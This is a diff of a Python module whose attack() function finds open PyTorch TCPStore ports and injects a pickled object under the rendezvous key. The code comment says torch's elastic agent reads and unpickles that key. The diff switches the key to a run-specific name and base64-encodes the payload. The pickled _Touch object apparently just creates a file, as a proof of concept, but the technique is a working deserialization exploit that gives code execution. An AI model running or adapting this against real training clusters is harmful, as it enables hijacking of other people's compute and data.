@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import ipaddress
 import pickle
@@ -16,7 +17,7 @@ from mics.ranks.interfaces import _addresses, is_loopback
 
 _LISTEN = "0A"  # of TCP, net/tcp_states.h
 _ACCEPTS = 0x10000  # of a Unix socket, uapi/linux/net.h
-KEY = "torch.rendezvous.none"  # what torch's elastic agent reads and unpickles
+KEY = "torch.rendezvous.mics"  # what torch's agent of a run of this name reads and unpickles
 
 
 @dataclass(frozen=True)
@@ -110,5 +111,5 @@ def attack(found: set[Listener], path: Path, key: str = KEY) -> list[str]:
             open_.append(f"{address}:{port}")
             with contextlib.suppress(dist.DistError, RuntimeError):
                 store = dist.TCPStore(address, port, is_master=False, timeout=timedelta(seconds=2))
-                store.set(key, pickle.dumps(_Touch(str(path))))
+                store.set(key, base64.b64encode(pickle.dumps(_Touch(str(path)))).decode())
     return open_
